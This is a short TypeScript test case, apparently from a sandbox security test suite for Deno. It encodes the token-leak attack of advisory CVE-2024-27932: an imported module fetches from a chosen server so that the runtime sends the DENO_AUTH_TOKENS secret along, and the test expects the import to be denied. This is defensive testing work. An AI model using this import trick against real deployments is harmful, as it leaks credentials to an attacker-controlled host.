import { type Attack, denied, js } from "../attack.ts";
import { bareHost } from "../controls/bare_host.ts";
import { secretReturned } from "../proofs.ts";

export default {
  name: "import_with_token",
  what: "Imports from a server of its choice, to which Deno sends the token that the " +
    "environment holds for it.",
  advisory: "CVE-2024-27932",
  module: (at) =>
    js`
    import hit from "http://127.0.0.1:${at.tcpPort}/";
    export default { run: () => hit };`,
  ungated: true,
  expect: denied("import"),
  control: bareHost("a Worker without permissions as the only wall", {
    env: ({ tcpPort }, secret) => ({ DENO_AUTH_TOKENS: `${secret}@127.0.0.1:${tcpPort}` }),
  }),
  proof: secretReturned,
} satisfies Attack;
